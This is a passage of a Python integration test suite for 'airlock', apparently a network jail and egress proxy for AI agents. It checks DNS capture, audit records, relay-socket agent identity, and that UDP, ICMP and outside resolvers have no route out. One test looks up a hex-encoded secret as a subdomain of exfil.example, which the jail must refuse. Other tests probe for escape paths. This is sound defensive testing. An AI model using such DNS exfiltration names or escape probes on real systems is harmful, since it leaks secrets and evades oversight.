            captured = self.audit_records(audit, scheme=scheme, path="/via-capture")
            self.assertEqual(len(proxied), 1, scheme)
            self.assertEqual(len(captured), 1, scheme)
            for key in ("agent", "rule", "decision", "host", "port"):
                self.assertEqual(captured[0][key], proxied[0][key], (scheme, key))
            self.assertEqual(captured[0]["rule"], rule)
            self.assertEqual(captured[0]["host"], "allowed.test")
        denied = self.audit_records(audit, at_least=2, host="denied.test")
        self.assertGreaterEqual(len(denied), 2, denied)
        self.assertTrue(all(d["decision"] != "allow" and d["rule"] is None for d in denied), denied)
        # One record per refusal (issue 17): the ClientHello the relay sends behind the refused
        # CONNECT is not read as a second request ("bad method").
        self.assertEqual(sorted(d["scheme"] for d in self.audit_records(audit, host="denied.test")),
                         ["connect", "http"], denied)
        self.assertEqual([d for d in self.audit_records(audit) if d.get("reason") == "bad_request"],
                         [])

    def test_capture_getaddrinfo_then_connect(self):
        self.require_capture()
        oport, _ = self.start_origins()
        audit = os.path.join(self.tmp, "audit.jsonl")
        port = self.start_proxy(self.capture_policy(oport, 1, self.make_certs(), audit))
        r = self.python_in_jail(f"""
import ipaddress, os, socket
for k in ("HTTP_PROXY", "http_proxy", "HTTPS_PROXY", "https_proxy", "ALL_PROXY", "all_proxy"):
    os.environ.pop(k, None)
infos = socket.getaddrinfo("allowed.test", {oport}, type=socket.SOCK_STREAM)
v4 = [i[4][0] for i in infos if i[0] == socket.AF_INET]
print("pool", all(ipaddress.ip_address(a) in ipaddress.ip_network("198.18.0.0/15") for a in v4))
s = socket.create_connection(("allowed.test", {oport}), timeout=10)
s.sendall(b"GET /raw HTTP/1.1\\r\\nHost: allowed.test\\r\\nConnection: close\\r\\n\\r\\n")
data = b""
while True:
    chunk = s.recv(65536)
    if not chunk:
        break
    data += chunk
print(data.decode(errors="replace"))
""", "--proxy", f"127.0.0.1:{port}")
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertIn("pool True", r.stdout)
        self.assertIn("HTTP/1.1 200", r.stdout)
        self.assertIn("hello from the origin", r.stdout)
        rec = self.audit_records(audit, path="/raw")
        self.assertEqual(len(rec), 1)
        self.assertEqual(rec[0]["rule"], "web")

    def test_capture_resolver_answers_inside_and_asks_no_one(self):
        self.require_capture()
        # A stand-in for the host's resolver: it must hear nothing, whatever the jail looks up.
        host_dns = None
        try:
            host_dns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            host_dns.bind(("127.0.0.1", 53))
            host_dns.settimeout(0.2)
        except OSError:
            if host_dns is not None:
                host_dns.close()
            host_dns = None  # not root, or something already serves port 53 here
        try:
            r = self.jail(
                "cat /etc/resolv.conf; getent ahostsv4 allowed.test | head -1;"
                " getent ahostsv4 other.example | head -1; getent hosts allowed.test;"
                " getent ahostsv4 allowed.test | head -1; getent hosts localhost;"
                " getent hosts x.onion; echo onion=$?;"
                " python3 -c \"import socket; print('v4only', socket.getaddrinfo('n.test', 80,"
                " socket.AF_INET)[0][4][0])\"",
                "--capture")
            self.assertEqual(r.returncode, 0, r.stderr)
            lines = r.stdout.splitlines()
            self.assertIn("nameserver 127.0.0.1", lines)
            v4 = [l.split() for l in lines if "STREAM" in l]
            self.assertEqual(v4[0], ["198.18.0.1", "STREAM", "allowed.test"])
            self.assertEqual(v4[1], ["198.18.0.2", "STREAM", "other.example"])
            self.assertEqual(v4[2], ["198.18.0.1", "STREAM", "allowed.test"])  # stable
            # `getent hosts` asks for IPv6 first: the IPv6 pool where the jail captures IPv6.
            plain = [l.split() for l in lines if l.endswith(" allowed.test") and "STREAM" not in l]
            self.assertIn(plain[0][0], ("fd61:6972:6c6b::1", "198.18.0.1"), r.stdout)
            self.assertTrue(any(l.split()[:1] in (["127.0.0.1"], ["::1"]) and "localhost" in l
                                for l in lines), r.stdout)
            self.assertIn("onion=2", lines)  # NXDOMAIN: getent's "not found"
            self.assertIn("v4only 198.18.0.3", lines)
            # Other record types are refused; a query to an outside resolver has no route.
            q = self.python_in_jail("""
import socket, struct
def query(name, qtype):
    q = struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    return q + b"\\0" + struct.pack(">HH", qtype, 1)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.settimeout(5)
for qtype in (15, 16, 65, 1):
    u.sendto(query("allowed.test", qtype), ("127.0.0.1", 53))
    data = u.recv(512)
    print("type", qtype, "rcode", data[3] & 15, "answers", struct.unpack(">H", data[6:8])[0])
for resolver in ("8.8.8.8", "10.255.255.53", "192.0.2.53"):
    try:
        u.sendto(query("allowed.test", 1), (resolver, 53))
        print("SENT", resolver)
    except OSError as e:
        print("unroutable", resolver, e.errno)
""", "--capture")
            self.assertEqual(q.returncode, 0, q.stderr)
            for t in (15, 16, 65):
                self.assertIn(f"type {t} rcode 5 answers 0", q.stdout)
            self.assertIn("type 1 rcode 0 answers 1", q.stdout)
            self.assertNotIn("SENT", q.stdout)
            self.assertEqual(q.stdout.count("unroutable"), 3)
            if host_dns is not None:
                with self.assertRaises(socket.timeout):
                    host_dns.recvfrom(512)
        finally:
            if host_dns is not None:
                host_dns.close()

    def test_capture_resolver_refuses_names_that_carry_data(self):
        # Issue 16: "<hex of a secret>.exfil.example" is NXDOMAIN at the lookup (nothing leaves
        # the jail either way); --dns-allow NAME resolves one such name, and only that one.
        self.require_capture()
        hex_name = "7365637265745f6170695f6b65795f3132333435.exfil.example"
        b32_name = "jbswy3dpehpk3pxp.exfil.example"
        r = self.jail(f"getent ahostsv4 {hex_name}; echo hex=$?; getent ahostsv4 {b32_name};"
                      f" echo b32=$?; getent ahostsv4 api.example.com | head -1",
                      "--capture", "--dns-allow", b32_name.upper())
        self.assertEqual(r.returncode, 0, r.stderr)
        lines = r.stdout.splitlines()
        self.assertIn("hex=2", lines)  # getent: not found
        self.assertIn("b32=0", lines)
        self.assertTrue(any(l.endswith(b32_name) and l.startswith("198.18.") for l in lines),
                        r.stdout)
        self.assertTrue(any(l.endswith("api.example.com") for l in lines), r.stdout)
        # The warning names the registrable part and why, never the labels that carry data.
        self.assertIn("looks like it carries data (hex label)", r.stderr)
        self.assertNotIn("7365637265745f", r.stderr)

    def test_capture_leaves_udp_and_icmp_without_a_way_out(self):
        self.require_capture()
        host_udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        host_udp.bind(("127.0.0.1", 0))
        port = host_udp.getsockname()[1]
        try:
            r = self.python_in_jail(f"""
import socket
pool = socket.getaddrinfo("quic.test", 443, socket.AF_INET)[0][4][0]
for addr in [(pool, 443), ("192.0.2.1", 443), ("127.0.0.1", {port})]:
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.settimeout(1)
    try:
        u.connect(addr)
        u.send(b"quic initial")
        u.recv(100)
        print("ANSWERED", addr)
    except OSError as e:
        print("no way", addr[0], e.errno)
try:
    icmp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    icmp.connect(("192.0.2.1", 0))
    icmp.send(b"\\x08\\x00\\x00\\x00\\x00\\x01\\x00\\x01")
    print("PINGED")
except OSError as e:
    print("no icmp", e.errno)
""", "--capture")
            self.assertEqual(r.returncode, 0, r.stderr)
            self.assertNotIn("ANSWERED", r.stdout)
            self.assertNotIn("PINGED", r.stdout)
            self.assertEqual(r.stdout.count("no way"), 3, r.stdout)
            self.assertIn("no way 198.18.", r.stdout)
            host_udp.settimeout(0.2)
            with self.assertRaises(socket.timeout):
                host_udp.recvfrom(100)
        finally:
            host_udp.close()

    def test_no_capture_keeps_the_jail_as_it_was(self):
        r = self.python_in_jail("""
import socket
try:
    socket.getaddrinfo("allowed.test", 80)
    print("RESOLVED")
except OSError as e:
    print("no name")
s = socket.socket()
s.settimeout(5)
try:
    s.connect(("192.0.2.1", 80))
    print("CONNECTED")
except OSError as e:
    print("unroutable", e.errno)
""", "--no-capture")
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertIn("no name", r.stdout)
        self.assertIn("unroutable 101", r.stdout)

    def test_relay_socket_names_the_agent(self):
        """Task A of issue 8: `--proxy unix:PATH --proxy-protocol --agent coder` through the
        proxy's relay listener; the agent is coder whatever the command claims."""
        oport, _ = self.start_origins()
        audit = os.path.join(self.tmp, "audit.jsonl")
        # Not below /tmp, which the jail replaces anyway: in a directory the jail would see,
        # so that the launcher must hide it.
        sock_dir = tempfile.mkdtemp(prefix="airlock-itest-relay-", dir="/var/tmp")
        self.addCleanup(shutil.rmtree, sock_dir, True)
        os.chmod(sock_dir, 0o755)
        sock = os.path.join(sock_dir, "relay.sock")
        group = ""
        if self.user is not None:
            import grp
            group = f", relay_group: {grp.getgrgid(self.user.pw_gid).gr_name}"
        import hashlib
        token_hash = hashlib.sha256(b"other-token").hexdigest()
        policy = ("listen: {proxy: '127.0.0.1:0', admin: 'off', relay: '" + sock + "'" + group
                  + "}\n"
                  f"audit: {{path: '{audit}'}}\n"
                  "agents:\n"
                  "  default: {rules: []}\n"
                  "  coder: {rules: [web]}\n"
                  f"  other: {{rules: [web], token_sha256: '{token_hash}'}}\n"
                  "rules:\n"
                  f"  - {{name: web, hosts: [allowed.test], addresses: [127.0.0.1],"
                  f" allow_cidrs: [127.0.0.1/32], ports: [{oport}]}}\n")
        self.start_proxy(policy)
        self.assertTrue(os.path.exists(sock), "the relay socket is there once the proxy listens")
        other = "Proxy-Authorization: Basic " + __import__("base64").b64encode(
            b"other:other-token").decode()
        captured, _ = capabilities.has("capture")
        r = self.jail(
            f"curl -sS --max-time 10 -H '{other}' http://allowed.test:{oport}/as-proxied; echo;"
            + (f" ( {self.UNSET_PROXY} curl -sS --max-time 10 -H '{other}'"
               f" http://allowed.test:{oport}/as-captured; echo );" if captured else "") +
            # The socket itself is out of the command's reach.
            f" python3 -c \"import socket; s = socket.socket(socket.AF_UNIX);"
            f" s.connect('{sock}')\" 2>/dev/null && echo REACHED || echo unreachable",
            "--proxy", f"unix:{sock}", "--proxy-protocol", "--agent", "coder", timeout=60)
        self.assertEqual(r.stdout.count("hello from the origin"), 2 if captured else 1,
                         r.stdout + r.stderr)
        self.assertIn("unreachable", r.stdout)
        for path in ("/as-proxied", "/as-captured") if captured else ("/as-proxied",):
            rec = self.audit_records(audit, path=path)
            self.assertEqual(len(rec), 1, path)
            self.assertEqual(rec[0]["agent"], "coder", rec[0])
        # Without the header the relay socket names nobody: a plain launcher is refused there.
        p = self.jail(f"curl -sS --max-time 10 http://allowed.test:{oport}/x; echo rc=$?",
                      "--proxy", f"unix:{sock}", rc=125)
        self.assertIn("--proxy-protocol", p.stderr)


class AsCaller(LauncherTestBase, unittest.TestCase):
    """As the user running the tests (root in CI)."""

    @classmethod
    def setUpClass(cls):
        capabilities.require(cls, "userns")


class AsUnprivilegedUser(LauncherTestBase, unittest.TestCase):
    """As `airlock-test`, a user without privileges (only when the tests run as root)."""

    @classmethod
    def setUpClass(cls):
        capabilities.require(cls, "userns_unprivileged")  # root, and userns for others
        try:
            pwd.getpwnam(TEST_USER)
        except KeyError:
            subprocess.run(["useradd", "--system", "--no-create-home", "--home-dir", "/nonexistent",
                            "--shell", "/usr/sbin/nologin", TEST_USER],
                           check=False, capture_output=True, timeout=30)
        cls.user = pwd.getpwnam(TEST_USER)  # root can always create it: KeyError is a failure
        # The binary must be reachable for that user (every directory above it searchable).
        r = subprocess.run(["test", "-x", AIRLOCK], user=cls.user.pw_uid, group=cls.user.pw_gid,
                           extra_groups=[], timeout=10)
        assert r.returncode == 0, (f"{AIRLOCK} is not executable by {TEST_USER}: make every "
                                   "directory above it searchable")


if __name__ == "__main__":
    if len(sys.argv) > 1 and not sys.argv[1].startswith("-"):
        AIRLOCK = os.path.abspath(sys.argv.pop(1))
        os.environ["AIRLOCK_BIN"] = AIRLOCK  # for the harness's proxy starter
    # harness.runner: exit 77 when something was skipped (ctest shows it), 1 under CI=true
    # when a skip is not on its allow-list.
    loader, here = unittest.defaultTestLoader, sys.modules[__name__]
    suite = (loader.loadTestsFromNames(sys.argv[1:], here) if sys.argv[1:]
             else loader.loadTestsFromModule(here))
    sys.exit(runner.run_suite(suite))
